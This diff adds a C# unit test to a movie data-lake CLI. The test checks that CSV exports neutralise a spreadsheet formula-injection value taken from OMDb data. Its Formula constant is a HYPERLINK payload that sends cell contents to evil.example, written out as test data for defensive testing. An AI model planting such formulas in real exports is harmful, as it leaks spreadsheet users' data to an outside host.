@@ -13,6 +13,9 @@ public abstract class SqlTrustTests : IDisposable
 {
     private static readonly DateOnly Day = new(2026, 11, 23);
 
+    /// <summary>A director as a hostile OMDb answer could give it: a formula Excel would run on opening the CSV.</summary>
+    private const string Formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1)";
+
     protected TempFolder Folder { get; } = new();
 
     private string Cache => Folder.Combine("cache");
@@ -72,6 +75,30 @@ public abstract class SqlTrustTests : IDisposable
         Assert.False(File.Exists(Folder.Combine("pwned.csv")), "a planted file's name ran as SQL");
     }
 
+    /// <summary>Issue 25, item 5: the formula from OMDb is text in every CSV the product writes (gold's tables and
+    /// <c>sql --format csv</c>), and unchanged in the Parquet tables.</summary>
+    [Fact]
+    public async Task Csv_FormulaFromOmdb_NeutralisedInGoldAndSqlCsvParquetUnchanged()
+    {
+        var (lake, args) = await CreateLakeAsync();
+
+        var sql = await MoviesCli.RunAsync(null, ["sql", .. args, "--cache", Cache, "--format", "csv", "select directors, -5 as n from movies_unified where imdb_id = 'tt0000002'"]);
+
+        var guarded = "'" + Formula;
+        Assert.True(sql.ExitCode == 0, sql.Stderr);
+        Assert.Equal(["directors,n", Quoted(guarded) + ",-5"], sql.Stdout.Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => l.TrimEnd('\r')));
+        foreach (var table in new[] { GoldPaths.MoviesUnified, GoldPaths.DirectorSummary })
+        {
+            var csv = (await lake.DownloadAsync(LakeContainers.Gold, GoldPaths.Latest(table, "csv")))!.ToString();
+            Assert.Contains("," + Quoted(guarded) + ",", csv.Replace("\r\n", ",", StringComparison.Ordinal), StringComparison.Ordinal);
+            Assert.DoesNotContain("," + Quoted(Formula), csv.Replace("\r\n", ",", StringComparison.Ordinal), StringComparison.Ordinal);
+        }
+
+        Assert.Equal([[Formula]], await LakeRuns.QueryParquetAsync(lake, LakeContainers.Gold, GoldPaths.Latest(GoldPaths.DirectorSummary, "parquet"), $"SELECT director FROM t WHERE director LIKE '=%'"));
+    }
+
+    private static string Quoted(string cell) => "\"" + cell.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
+
     [Theory]
     [InlineData(false)]
     [InlineData(true)]
@@ -112,7 +139,7 @@ public abstract class SqlTrustTests : IDisposable
     protected static async Task PromoteRunAsync(ILakeStore lake)
     {
         var manifest = await LakeRuns.WriteRunAsync(lake, "20261123-sqltrust", Day, new DateTimeOffset(Day.ToDateTime(new TimeOnly(3, 0)), TimeSpan.Zero),
-            [new("heat", LakeRuns.Omdb("tt0113277", "Heat", 1995)), new("x", LakeRuns.Omdb("tt0000002", "X", 2004))]);
+            [new("heat", LakeRuns.Omdb("tt0113277", "Heat", 1995)), new("x", LakeRuns.Omdb("tt0000002", "X", 2004, director: Formula))]);
         await LakeRuns.Promoter(lake).PromoteAsync(manifest);
     }
 
